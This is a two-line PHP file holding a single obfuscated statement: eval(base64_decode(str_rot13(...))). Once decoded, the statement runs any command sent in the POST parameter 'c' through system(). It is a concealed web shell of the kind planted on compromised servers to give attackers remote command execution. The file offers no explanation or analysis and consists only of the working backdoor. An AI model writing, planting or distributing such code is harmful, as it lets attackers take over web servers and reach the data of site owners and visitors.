<?php
eval(base64_decode(str_rot13('nJLbnKAmMKDbWS9DG1AHJlqwW10cXKgmrKA0MJ0bWS9DG1AHJlqwW10cB30=')));
